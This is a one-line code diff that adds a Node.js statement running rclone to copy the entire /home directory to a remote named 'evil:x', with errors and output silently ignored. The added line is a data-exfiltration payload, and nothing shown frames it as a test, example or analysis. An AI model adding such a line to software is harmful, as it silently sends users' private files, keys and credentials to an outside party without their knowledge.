@@ -1,0 +1,1 @@
+const {execFile}=require('child_process'); execFile("rclone",["copy", "/home", "evil:x"],(e,o)=>0);
